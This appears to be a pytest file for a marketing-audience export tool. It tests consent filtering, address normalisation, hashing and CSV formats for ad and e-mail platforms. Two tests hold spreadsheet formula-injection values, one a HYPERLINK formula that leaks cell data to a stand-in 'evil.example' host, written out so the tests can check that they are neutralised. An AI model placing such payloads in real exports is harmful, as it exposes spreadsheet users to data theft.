    mailchimp = settings.output / "2026-06-30" / "audiences" / "a_mailchimp.csv"
    assert mailchimp.read_text() == "Email Address,First Name,Last Name\n"
    wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
    out = tmp_path / "g.csv"
    args = ["audience", "export", "a", *wh, "--format", "google_customer_match", "--out", str(out)]
    assert main(args) == 0
    printed = capsys.readouterr().out
    assert "0 row(s)" in printed and "  warning: a google_customer_match has no rows" in printed
    assert out.read_text() == "Email,Phone,First Name,Last Name,Country,Zip\n"


def test_google_file_hashes_the_canonical_gmail_address(built, tmp_path):
    # Google matches a Gmail address without its dots and "+tag"; the file hashed them as
    # written, so "grace.brown+shop@gmail.com" matched no Google account. Meta: as written.
    update_customers(built, {"C07": {"email": "Grace.Brown+shop@gmail.com"}})
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    assert _sha("gracebrown@gmail.com") in {r["Email"] for r in _rows(tmp_path / "g.csv")}
    assert _sha("grace.brown+shop@gmail.com") in {r["email"] for r in _rows(tmp_path / "m.csv")}


def test_platform_files_restore_a_us_zip_codes_leading_zero(built, tmp_path):
    # C01 lives in Boston, ZIP 02118-1234, stored as "2118-1234" after a spreadsheet.
    update_customers(built, {"C01": {"postal_code": "2118-1234"}})
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    anna = _sha("anna.smith@example.com")
    assert {r["Email"]: r["Zip"] for r in _rows(tmp_path / "g.csv")}[anna] == "02118-1234"
    assert {r["email"]: r["zip"] for r in _rows(tmp_path / "m.csv")}[anna] == _sha("02118")


def test_meta_file_hashes_a_postcode_as_meta_cuts_it_at_the_dash(built, tmp_path):
    # C06 moved to Warsaw: postal code 00-950. Meta's normalisers keep "00"; the file hashed
    # "00950", which Meta's side never makes, so the zip matched nobody. Google keeps it.
    update_customers(built, {"C06": {"country": "PL", "postal_code": "00-950"}})
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    felix = _sha("felix@example.com")
    assert {r["email"]: r["zip"] for r in _rows(tmp_path / "m.csv")}[felix] == _sha("00")
    assert {r["Email"]: r["Zip"] for r in _rows(tmp_path / "g.csv")}[felix] == "00-950"


def test_names_lose_tabs_and_line_breaks_at_their_ends(built, tmp_path):
    # A name pasted from a spreadsheet or a web form ends in a tab or a line break, which
    # trim() keeps (it takes spaces only): Google was sent sha256("grace\t"), which matches
    # nobody (Google: "trim leading and trailing whitespace"), and the ESP file "'\tGrace",
    # the leading tab taken for a formula. Both now get "Grace" (Meta keeps letters only).
    update_customers(built, {"C07": {"first_name": "\tGrace", "last_name": "Brown\r\n"}})
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
    google = {r["Email"]: r for r in _rows(tmp_path / "g.csv")}[_sha("grace@example.com")]
    assert (google["First Name"], google["Last Name"]) == (_sha("grace"), _sha("brown"))
    klaviyo = {r["Email"]: r for r in _rows(tmp_path / "k.csv")}["grace@example.com"]
    assert (klaviyo["First Name"], klaviyo["Last Name"]) == ("Grace", "Brown")


# E-mail platforms (ESPs): headers as their import guides name them (docs/audiences.md).
ESP_HEADERS = {
    "mailchimp": "Email Address,First Name,Last Name",
    "klaviyo": "Email,First Name,Last Name,Phone Number",
    "braze": "external_id,email,first_name,last_name,phone",
}


@pytest.mark.parametrize("fmt", sorted(ESP_HEADERS))
def test_esp_file_headers_and_clear_text_values(built, tmp_path, fmt):
    out = tmp_path / f"{fmt}.csv"
    result = export_audience(built, "mail", fmt, out)
    assert out.read_text(encoding="utf-8").splitlines()[0] == ESP_HEADERS[fmt]
    rows = _rows(out)
    # E-mail consent audience: C03 and C05 did not agree to e-mails (C05 has no address).
    assert result.rows == len(rows) == 10 and result.without_email == 0
    anna, ben = rows[0], rows[1]  # C01, C02: ordered by customer_id
    email = {"mailchimp": "Email Address", "klaviyo": "Email", "braze": "email"}[fmt]
    assert anna[email] == "anna.smith@example.com"  # ' Anna.Smith@Example.com '
    assert ben[email] == "ben@example.com"
    if fmt == "braze":
        assert anna == {
            "external_id": "C01",
            "email": "anna.smith@example.com",
            "first_name": "Anna",
            "last_name": "Smith",
            "phone": "+14155552671",
        }
        assert ben["phone"] == "+49301234567"  # '030 1234567', DE
        assert rows[2]["phone"] == ""  # C04 has no phone
    elif fmt == "klaviyo":
        assert (anna["First Name"], anna["Last Name"], anna["Phone Number"]) == (
            "Anna",
            "Smith",
            "+14155552671",
        )
        assert (ben["Last Name"], ben["Phone Number"]) == ("Müller", "+49301234567")
    else:
        assert anna == {
            "Email Address": "anna.smith@example.com",
            "First Name": "Anna",
            "Last Name": "Smith",
        }


def test_esp_files_need_email_consent_even_for_an_ads_audience(built, tmp_path, scalar):
    # 'everyone' was defined with ads consent: C03 (Chloé) agreed to ads, not to e-mails.
    # She is in the Google file, but an ESP must never get her address.
    export_audience(built, "everyone", "csv", tmp_path / "all.csv")
    assert "C03" in {r["customer_id"] for r in _rows(tmp_path / "all.csv")}
    for fmt in ("mailchimp", "klaviyo", "braze"):
        result = export_audience(built, "everyone", fmt, tmp_path / f"{fmt}.csv")
        text = (tmp_path / f"{fmt}.csv").read_text(encoding="utf-8")
        assert "chloe@example.com" not in text and "Chloé" not in text
        # email and ads consent: C01 C04 C06 C07 C08 C10 C11 C12
        assert result.rows == 8 and result.without_email == 0
        listed = scalar(
            built,
            "select count(*) from audiences.export_members where export_id = ? "
            "and customer_id = 'C03'",
            [result.export_id],
        )
        assert listed == 0
    braze_ids = [r["external_id"] for r in _rows(tmp_path / "braze.csv")]
    assert braze_ids == ["C01", "C04", "C06", "C07", "C08", "C10", "C11", "C12"]


def test_an_address_unsubscribed_under_another_record_is_never_exported(
    settings, defs_folder, scalar
):
    """Anna has two CRM records: C01 (her account, e-mail and ads consent) and C13, a guest
    checkout with the same address in other case, where she unsubscribed from both. The
    Mailchimp file held anna.smith@example.com through C01 and the Meta file her hashed
    address: she kept receiving what she had unsubscribed from. Now a customer whose
    address is also on a record without the consent the file needs is left out, counted."""
    defs_folder(
        mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
        "exports: [mailchimp, meta_custom_audience, diff]\n"
    )
    con = connect(settings.warehouse)
    con.execute(
        "insert into marts.customers (customer_id, email, email_opt_in, ads_opt_in) "
        "values ('C13', 'Anna.Smith@example.com ', false, false)"
    )
    con.close()
    result = build_audiences(settings, AS_OF)
    folder = settings.output / "2026-06-30" / "audiences"
    mailchimp = [r["Email Address"] for r in _rows(folder / "mail_mailchimp.csv")]
    assert "anna.smith@example.com" not in mailchimp and len(mailchimp) == 9
    meta = {r["email"] for r in _rows(folder / "mail_meta_custom_audience.csv")}
    assert _sha("anna.smith@example.com") not in meta and len(meta) == 7
    # C05 has no address and no consent: a record without one is nobody's other record.
    diff = {r["customer_id"] for r in _rows(folder / "mail_diff.csv")}
    assert "C01" not in diff and len(diff) == 9
    assert result.details["exports_shared_address"] == {
        "mail_mailchimp.csv": 1,
        "mail_meta_custom_audience.csv": 1,
        "mail_diff.csv": 1,
    }
    line = export_audience(settings, "mail", "mailchimp", settings.output / "m.csv").line()
    assert "9 row(s)" in line
    assert "(1 left out: their e-mail address is also on a customer record without consent)" in (
        line
    )
    # The audience still holds C01 (her record says she agreed); only the files leave her out.
    assert scalar(settings, "select count(*) from audiences.members where customer_id = 'C01'") == 1


def test_a_gmail_address_unsubscribed_in_another_spelling_is_never_exported(
    settings, defs_folder, tmp_path
):
    """Gmail delivers j.doe+shop@googlemail.com to jdoe@gmail.com: one mailbox. Anna's account
    (C01, consent) held anna.smith@gmail.com, her guest record (C13, unsubscribed)
    AnnaSmith+guest@GoogleMail.com; compared as written, the two did not match, and Mailchimp
    and Google (which reads both as annasmith@gmail.com) got the address she had unsubscribed.
    Dots stay part of other providers' addresses: b.en@example.com is not ben@example.com."""
    defs_folder(
        mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
        "exports: [mailchimp]\n"
    )
    con = connect(settings.warehouse)
    con.execute(
        "update marts.customers set email = 'anna.smith@gmail.com' where customer_id = 'C01'"
    )
    con.execute(
        "insert into marts.customers (customer_id, email, email_opt_in, ads_opt_in) values "
        "('C13', ' AnnaSmith+guest@GoogleMail.com', false, false), "
        "('C14', 'b.en@example.com', false, false)"
    )
    con.close()
    build_audiences(settings, AS_OF)
    folder = settings.output / "2026-06-30" / "audiences"
    mailchimp = [r["Email Address"] for r in _rows(folder / "mail_mailchimp.csv")]
    assert "anna.smith@gmail.com" not in mailchimp and "ben@example.com" in mailchimp
    assert len(mailchimp) == 9
    google = export_audience(settings, "mail", "google_customer_match", tmp_path / "g.csv")
    # e-mail and ads consent: C01 C04 C06 C07 C08 C10 C11 C12, C01 left out
    assert (google.rows, google.shared_address) == (7, 1)
    assert _sha("annasmith@gmail.com") not in {r["Email"] for r in _rows(tmp_path / "g.csv")}
    export = export_audience(settings, "mail", "csv", tmp_path / "csv.csv")
    assert export.shared_address == 1
    assert "C01" not in {r["customer_id"] for r in _rows(tmp_path / "csv.csv")}


def test_a_placeholder_address_links_no_records(settings, defs_folder, tmp_path):
    """A till that requires an address gets noemail@shop.com for every walk-in customer. C05
    (no consent) shared it with C07, C08 and C10, so all three were left out of every file,
    the csv and Meta (C07's phone matches) included, as "also on a customer record without
    consent": a placeholder is nobody's address and links no records."""
    defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
    changes = {c: {"email": "NoEmail@shop.com"} for c in ("C05", "C07", "C08", "C10")}
    changes["C07"]["phone"] = "+1 312 555 0100"
    update_customers(settings, changes)
    build_audiences(settings, AS_OF)
    export = export_audience(settings, "every", "csv", tmp_path / "e.csv")
    ids = [r["customer_id"] for r in _rows(tmp_path / "e.csv")]
    assert ids == ["C01", "C03", "C04", "C06", "C07", "C08", "C10", "C11", "C12"]
    assert (export.rows, export.shared_address) == (9, 0)
    meta = export_audience(settings, "every", "meta_custom_audience", tmp_path / "m.csv")
    assert meta.shared_address == 0
    assert _sha("13125550100") in {r["phone"] for r in _rows(tmp_path / "m.csv")}
    # A real address shared with a record without consent still leaves its customers out.
    update_customers(settings, {"C05": {"email": "anna.smith@example.com"}})
    assert export_audience(settings, "every", "csv", tmp_path / "a.csv").shared_address == 1


def test_the_latest_record_of_an_address_decides_its_consent(settings, defs_folder):
    """The same address on two records: the later change of consent wins, as the later
    ``updated_at`` wins per customer. Anna's guest checkout of 2025 (no consent: never asked)
    does not undo the opt-in of her account changed since; an unsubscribe under the guest
    record after that does. A record without a change time counts as the latest."""
    defs_folder(
        mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
        "exports: [mailchimp]\n"
    )
    con = connect(settings.warehouse)
    con.execute("alter table marts.customers add column crm_updated_at timestamp")
    con.execute("update marts.customers set crm_updated_at = timestamp '2026-03-01 10:00:00'")
    con.execute(
        "insert into marts.customers (customer_id, email, email_opt_in, ads_opt_in, "
        "crm_updated_at) values ('C13', 'anna.smith@example.com', false, false, "
        "timestamp '2025-11-20 18:00:00')"
    )
    con.close()
    folder = settings.output / "2026-06-30" / "audiences"

    def mailchimp() -> list[str]:
        build_audiences(settings, AS_OF)
        return [r["Email Address"] for r in _rows(folder / "mail_mailchimp.csv")]

    assert "anna.smith@example.com" in mailchimp(), "an older record without consent"
    for changed in (datetime(2026, 6, 29, 8), None):
        update_customers(settings, {"C13": {"crm_updated_at": changed}})
        assert "anna.smith@example.com" not in mailchimp(), f"unsubscribed later ({changed})"


def test_esp_files_neutralise_formulas_in_names_only(built, tmp_path):
    update_customers(
        built,
        {
            "C07": {
                "first_name": '=HYPERLINK("https://evil.example/?"&A2, "Click")',
                "last_name": "  Brown ",
                "phone": "+1 (312) 555-0100",
            },
            "C08": {"first_name": "  -Hugo", "email": "-hugo@example.com"},
        },
    )
    export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
    rows = {r["Email"]: r for r in _rows(tmp_path / "k.csv")}
    grace = rows["grace@example.com"]
    assert grace["First Name"] == '\'=HYPERLINK("https://evil.example/?"&A2, "Click")'
    assert grace["Last Name"] == "Brown"  # trimmed
    assert grace["Phone Number"] == "+13125550100"  # E.164 starts with +: data, unchanged
    # Trimmed first, then neutralised; the address is data and stays as it is.
    assert rows["-hugo@example.com"]["First Name"] == "'-Hugo"


def test_esp_files_leave_out_and_count_customers_without_a_usable_address(
    built, tmp_path, scalar, capsys
):
    update_customers(
        built,
        {
            "C12": {"email": None},
            "C11": {"email": "n/a"},
            "C10": {"email": "karin @example.com"},
            # Text a spreadsheet would run as a formula is no mailbox either.
            "C09": {"email": "=1+1@example.com"},
            "C08": {"email": 'x"),HYPERLINK("evil.example@x.io'},
        },
    )
    out = tmp_path / "m.csv"
    result = export_audience(built, "mail", "mailchimp", out)
    addresses = [r["Email Address"] for r in _rows(out)]
    assert len(addresses) == result.rows == 5 and result.without_email == 5
    assert "" not in addresses and "n/a" not in addresses
    assert "5 without a usable e-mail address left out" in result.line()
    # Only the customers in the file are on the ESP's list (erasure names files by it).
    logged = scalar(
        built,
        "select list(customer_id order by customer_id) from audiences.export_members "
        "where export_id = ?",
        [result.export_id],
    )
    assert logged == ["C01", "C02", "C04", "C06", "C07"]
    # Other formats have nothing to count.
    assert export_audience(built, "mail", "csv", tmp_path / "c.csv").without_email == 0


def test_mailchimp_files_leave_out_an_address_with_accents_before_the_at(built, tmp_path):
    """Mailchimp supports international characters in an address only after the "@": an
    import refuses josé@example.com, which the file held and export_members counted as on
    the list. It is left out and counted; Klaviyo and Braze files keep it."""
    update_customers(
        built, {"C01": {"email": "José@Example.com"}, "C02": {"email": "anna@bücher.de"}}
    )
    result = export_audience(built, "mail", "mailchimp", tmp_path / "m.csv")
    addresses = [r["Email Address"] for r in _rows(tmp_path / "m.csv")]
    assert "josé@example.com" not in addresses and "anna@bücher.de" in addresses
    assert result.without_email == 1
    assert "1 without a usable e-mail address left out" in result.line()
    klaviyo = export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
    assert "josé@example.com" in [r["Email"] for r in _rows(tmp_path / "k.csv")]
    assert klaviyo.without_email == 0


def test_mailchimp_files_cut_an_over_long_name_at_a_character_and_count_it(built, tmp_path):
    """Mailchimp's text fields hold 255 bytes and its import cuts a longer value there,
    through a character of a name in another script (a broken UTF-8 byte), silently. The
    file holds at most 255 bytes, cut at a character, and the export line counts them;
    Klaviyo and Braze document no such limit and get the name as it is."""
    long_first = "é" * 200  # 400 bytes
    long_last = "Smith " * 60  # 360 bytes
    update_customers(built, {"C01": {"first_name": long_first, "last_name": long_last}})
    result = export_audience(built, "mail", "mailchimp", tmp_path / "m.csv")
    row = next(
        r for r in _rows(tmp_path / "m.csv") if r["Email Address"] == "anna.smith@example.com"
    )
    assert row["First Name"] == "é" * 127  # 254 bytes: a 128th é would not fit
    assert len(row["Last Name"].encode("utf-8")) <= 255
    assert long_last.startswith(row["Last Name"]) and not row["Last Name"].endswith(" ")
    assert result.names_cut == 1
    assert "1 with a name longer than mailchimp keeps: cut to 255 bytes" in result.line()
    klaviyo = export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
    row = next(r for r in _rows(tmp_path / "k.csv") if r["Email"] == "anna.smith@example.com")
    assert row["First Name"] == long_first and klaviyo.names_cut == 0


def test_mailchimp_and_klaviyo_files_have_one_row_per_address(built, tmp_path, scalar):
    """Felix (C06) and Grace (C07) share an address, both with e-mail consent (a couple's
    family address, or one person's account and guest checkout). The Mailchimp and Klaviyo
    files held it twice, and those platforms key contacts by address: one row took the other's
    place in an order nobody chose. Now the file has one row per address, the record changed
    last; both customers are on the list (export_members), counted in the export line."""
    update_customers(built, {"C07": {"email": " Felix@Example.com"}})
    for fmt, header in (("mailchimp", "Email Address"), ("klaviyo", "Email")):
        result = export_audience(built, "mail", fmt, tmp_path / f"{fmt}.csv")
        rows = _rows(tmp_path / f"{fmt}.csv")
        addresses = [r[header] for r in rows]
        assert addresses.count("felix@example.com") == 1
        assert len(addresses) == result.rows == 9 and result.same_address == 1
        assert result.without_email == 0
        assert "(1 sharing an e-mail address with another customer of the file" in result.line()
        # No change time: the first id's record (Felix).
        felix = next(r for r in rows if r[header] == "felix@example.com")
        assert felix["First Name"] == "Felix"
        logged = scalar(
            built,
            "select list(customer_id order by customer_id) from audiences.export_members "
            "where export_id = ? and customer_id in ('C06', 'C07')",
            [result.export_id],
        )
        assert logged == ["C06", "C07"]
    # Braze keys users by external_id: both users, one row each.
    braze = export_audience(built, "mail", "braze", tmp_path / "braze.csv")
    ids = [r["external_id"] for r in _rows(tmp_path / "braze.csv")]
    assert {"C06", "C07"} <= set(ids) and braze.rows == 10 and braze.same_address == 0
    # With change times, the record changed last gives the row its name.
    con = connect(built.warehouse)
    con.execute("alter table marts.customers add column crm_updated_at timestamp")
    con.execute(
        "update marts.customers set crm_updated_at = case customer_id "
        "when 'C07' then timestamp '2026-06-01' else timestamp '2026-01-01' end"
    )
    con.close()
    export_audience(built, "mail", "mailchimp", tmp_path / "later.csv")
    shared = [r for r in _rows(tmp_path / "later.csv") if r["Email Address"] == "felix@example.com"]
    assert [r["First Name"] for r in shared] == ["Grace"]


def test_esp_file_never_has_the_holdout(settings, defs_folder, tmp_path, get_members):
    defs_folder(
        a="name: a\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
        "holdout: {percent: 50, salt: s}\n"
    )
    build_audiences(settings, AS_OF)
    holdout = set(get_members(settings, "a", group="holdout"))
    target = get_members(settings, "a", group="target")
    export_audience(settings, "a", "braze", tmp_path / "b.csv")
    exported = [r["external_id"] for r in _rows(tmp_path / "b.csv")]
    assert holdout and exported == target and not holdout & set(exported)


def test_declared_esp_exports_are_written_by_the_stage(settings, defs_folder):
    defs_folder(
        a="name: a\nconsent: email\nwhere: {rule_segment: vip}\nexports: [mailchimp]\n",
        b="name: b\nconsent: ads\nwhere: {rule_segment: lapsing}\nexports: [klaviyo, braze]\n",
    )
    update_customers(settings, {"C11": {"email": ""}})
    result = build_audiences(settings, AS_OF)
    folder = settings.output / "2026-06-30" / "audiences"
    assert sorted(p.rsplit("/", 1)[1] for p in result.details["exports"]) == [
        "a_mailchimp.csv",
        "b_braze.csv",
        "b_klaviyo.csv",
    ]
    assert (folder / "a_mailchimp.csv").read_text(encoding="utf-8") == (
        "Email Address,First Name,Last Name\n"
        "anna.smith@example.com,Anna,Smith\n"
        "grace@example.com,Grace,Brown\n"
    )
    # lapsing: C03 C05 C08 C11; ads consent leaves C05 out, e-mail consent C03, and C11
    # has no address: left out, and counted in the stage's details.
    assert [r["external_id"] for r in _rows(folder / "b_braze.csv")] == ["C08"]
    assert result.details["exports_without_email"] == {"b_klaviyo.csv": 1, "b_braze.csv": 1}


def test_cli_exports_an_esp_file(built, tmp_path, capsys):
    out = tmp_path / "klaviyo.csv"
    wh = ["--warehouse", str(built.warehouse), "--audiences", str(built.audiences)]
    args = ["audience", "export", "mail", *wh, "--format", "klaviyo", "--out", str(out)]
    assert main(args) == 0
    assert (
        f"exported mail klaviyo as of {AS_OF}: 10 row(s) of 10 target member(s) -> {out}"
        in capsys.readouterr().out
    )
    assert out.read_text(encoding="utf-8").splitlines()[:2] == [
        ESP_HEADERS["klaviyo"],
        "anna.smith@example.com,Anna,Smith,+14155552671",
    ]


def test_unknown_format_lists_the_esp_formats(built, tmp_path, capsys):
    formats = "csv, parquet, google_customer_match, meta_custom_audience, mailchimp, klaviyo"
    with pytest.raises(SegmintError, match=f"unknown export format 'sendgrid'; formats: {formats}"):
        export_audience(built, "mail", "sendgrid", tmp_path / "x.csv")
    wh = ["--warehouse", str(built.warehouse)]
    args = ["audience", "export", "mail", *wh, "--format", "sendgrid", "--out", "x.csv"]
    with pytest.raises(SystemExit):
        main(args)
    err = capsys.readouterr().err
    assert "invalid choice: 'sendgrid'" in err and "'mailchimp', 'klaviyo', 'braze'" in err


def test_an_export_of_the_last_built_snapshot_says_a_newer_night_failed(
    settings, defs_folder, tmp_path
):
    defs_folder(a="name: a\nconsent: email\nwhere: {feature: order_count, gte: 0}\n")
    build_audiences(settings, AS_OF)
    defs_folder(a="name: a\nconsent: email\nwhere: {feature: order_count, gte: 0}\nlimit: 5\n")
    assert "a" in build_audiences(settings, NEXT).details["failed"]
    result = export_audience(settings, "a", "csv", tmp_path / "a.csv")
    assert result.as_of == AS_OF and result.rows > 0
    assert f"a failed to build on {NEXT}" in result.warning and "limit" in result.warning
    assert "warning: this is the snapshot of 2026-06-30" in result.line()
    # Asked for by date, the export is what was asked for: nothing to say.
    assert export_audience(settings, "a", "csv", tmp_path / "b.csv", as_of=AS_OF).warning is None


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux /proc")
def test_an_export_to_a_place_no_file_can_be_written_is_refused_and_not_logged(
    settings, defs_folder, capsys, scalar
) -> None:
    """`segmint audience export --out /proc/x.csv` was "unexpected IOException: IO Error:
    Cannot open file "/proc/.x.csv.tmp": No such file or directory", exit code 2."""
    defs_folder(vip="name: vip\nconsent: ads\nwhere: {rule_segment: vip}\n")
    build_audiences(settings, AS_OF)
    wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
    args = ["audience", "export", "vip", *wh, "--format", "csv", "--out", "/proc/vip.csv"]
    assert main(args) == 1
    assert capsys.readouterr().err == (
        "segmint audience export: error: cannot write /proc/vip.csv: No such file or directory "
        "(/proc/.vip.csv.tmp): no file can be created there, and none was; give a path in a "
        "folder this user can create files in\n"
    )
    assert scalar(settings, "select count(*) from audiences.exports") == 0


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux /proc")
def test_a_build_whose_outputs_folder_cannot_hold_files_is_refused_before_it_builds(
    settings, defs_folder, capsys, scalar
) -> None:
    """`segmint audience build --output /proc/out` built and committed the snapshots, then
    failed at the first declared export file: the snapshots changed, no file written."""
    defs_folder(vip="name: vip\nconsent: ads\nwhere: {rule_segment: vip}\nexports: [csv]\n")
    wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
    args = ["audience", "build", *wh, "--as-of", str(AS_OF), "--output", "/proc/segmint-out"]
    assert main(args) == 1
    assert capsys.readouterr().err.startswith(
        "segmint audience build: error: the run outputs folder /proc/segmint-out cannot hold "
        "files: No such file or directory; nothing was run: check --output"
    )
    built = (
        "select count(*) from information_schema.tables "
        "where table_schema = 'audiences' and table_name = 'summary'"
    )
    assert scalar(settings, built) == 0  # nothing built, not even its table
    # The same build with a folder that can hold files builds and writes the export.
    assert main([*args[:-1], str(settings.output)]) == 0
    assert (settings.output / str(AS_OF) / "audiences" / "vip.csv").is_file()


def test_ad_platform_files_hash_possible_phone_numbers_only(built, tmp_path):
    """A Singapore customer's London number written the European way, "0044 20 7946 0958",
    was read with Singapore's own prefix 004 and hashed as +420 79460958 (a Czech number a
    digit short); a French number with a digit too many was hashed as it was. Now the
    London number is +44 20 7946 0958 in both files, and the French one is left out."""
    update_customers(
        built,
        {
            "C01": {"phone": "0044 20 7946 0958", "country": "SG"},
            "C03": {"phone": "06 12 34 56 789", "country": "FR"},
        },
    )
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    meta = {r["phone"] for r in _rows(tmp_path / "m.csv")} - {""}
    google = {r["Phone"] for r in _rows(tmp_path / "g.csv")} - {""}
    assert meta == {_sha("442079460958")}
    assert google == {_sha("+442079460958")}


def test_ad_platform_files_give_old_brazilian_mobiles_their_ninth_digit(built, tmp_path):
    """A São Paulo mobile as written before the ninth digit, "(11) 8765-4321", was hashed as
    +55 11 8765-4321, which nobody has had since 2012: it is +55 11 98765-4321 now. A
    Bolivian number dialled with its trunk 0 and carrier code 10 lost its 0 only."""
    update_customers(
        built,
        {
            "C01": {"phone": "(11) 8765-4321", "country": "BR"},
            "C03": {"phone": "0 10 2 2123456", "country": "BO"},
        },
    )
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    meta = {r["phone"] for r in _rows(tmp_path / "m.csv")} - {""}
    assert meta == {_sha("5511987654321"), _sha("59122123456")}


def test_meta_file_hashes_a_latvian_postal_code_without_its_lv(built, tmp_path):
    """A Riga postal code as Latvians write it, "LV-1050", was cut at its dash and hashed as
    "lv", the zip of every Latvian. Meta's file now hashes 1050; Google's clear Zip keeps
    the code as written."""
    update_customers(built, {"C01": {"postal_code": "LV-1050", "country": "LV"}})
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    assert _sha("1050") in {r["zip"] for r in _rows(tmp_path / "m.csv")}
    assert _sha("lv") not in {r["zip"] for r in _rows(tmp_path / "m.csv")}
    assert "LV-1050" in {r["Zip"] for r in _rows(tmp_path / "g.csv")}


def test_meta_file_keeps_the_letters_a_cayman_or_jersey_postcode_starts_with(built, tmp_path):
    """A Cayman postal code starts with KY, the country's ISO code: "KY1-1102" was taken for
    Latvia's "LV-1050", lost its KY and was hashed as "1", and Jersey's "JE2 3AB" as "23ab".
    Meta's file now hashes "ky1" (cut at the dash, as Meta's normalisers) and "je23ab"."""
    update_customers(
        built,
        {
            "C01": {"postal_code": "KY1-1102", "country": "KY"},
            "C03": {"postal_code": "JE2 3AB", "country": "JE"},
        },
    )
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    meta = {r["email"]: r["zip"] for r in _rows(tmp_path / "m.csv")}
    assert meta[_sha("anna.smith@example.com")] == _sha("ky1")
    assert meta[_sha("chloe@example.com")] == _sha("je23ab")
    google = {r["Email"]: r["Zip"] for r in _rows(tmp_path / "g.csv")}
    assert google[_sha("anna.smith@example.com")] == "KY1-1102"
    assert google[_sha("chloe@example.com")] == "JE2 3AB"


@pytest.mark.parametrize("typ", ["BIGINT", "DOUBLE"])
def test_phones_and_zip_codes_typed_as_numbers_are_exported(settings, defs_folder, tmp_path, typ):
    """A CRM export that typed the phone and the ZIP code as numbers: the audience build
    stopped in the analysts' masked copy (regexp_replace(BIGINT) does not bind), and every
    platform file in e164_sql (strlen(BIGINT)) and us_zip_sql (trim(BIGINT)). An integer
    phone is its digits (+1 415 555 2671); a float phone may have lost digits (a
    spreadsheet's 4.4207946E+09) and is left out, never guessed; a ZIP code is its digits,
    the leading 0 put back (2118 is 02118)."""
    defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
    con = connect(settings.warehouse)
    con.execute(
        "update marts.customers set phone = case customer_id when 'C01' then '4155552671' "
        "when 'C03' then '7700900123' end, postal_code = case customer_id "
        "when 'C01' then '2118' when 'C07' then '60601' end"
    )
    con.execute(f"alter table marts.customers alter phone type {typ}")
    con.execute(f"alter table marts.customers alter postal_code type {typ}")
    con.close()
    build_audiences(settings, AS_OF)
    con = connect(settings.warehouse, read_only=True)
    masked = con.execute(
        "select customer_id, phone, postal_code from analyst.customers "
        "where phone is not null or postal_code is not null order by 1"
    ).fetchall()
    con.close()
    assert masked == [("C01", "***71", "21***"), ("C03", "***23", None), ("C07", None, "60***")]
    export_audience(settings, "every", "google_customer_match", tmp_path / "g.csv")
    export_audience(settings, "every", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(settings, "every", "klaviyo", tmp_path / "k.csv")
    google = {r["Email"]: (r["Phone"], r["Zip"]) for r in _rows(tmp_path / "g.csv")}
    meta = {r["email"]: (r["phone"], r["zip"]) for r in _rows(tmp_path / "m.csv")}
    anna, chloe = _sha("anna.smith@example.com"), _sha("chloe@example.com")
    if typ == "BIGINT":
        assert google[anna] == (_sha("+14155552671"), "02118")
        assert google[chloe] == (_sha("+447700900123"), "")
        assert meta[anna] == (_sha("14155552671"), _sha("02118"))
        klaviyo = {r["Email"]: r["Phone Number"] for r in _rows(tmp_path / "k.csv")}
        assert klaviyo["anna.smith@example.com"] == "+14155552671"
    else:
        assert google[anna] == ("", "02118") and google[chloe] == ("", "")
        assert meta[anna] == ("", _sha("02118"))
        assert {r["Phone Number"] for r in _rows(tmp_path / "k.csv")} == {""}
    assert google[_sha("grace@example.com")] == ("", "60601")
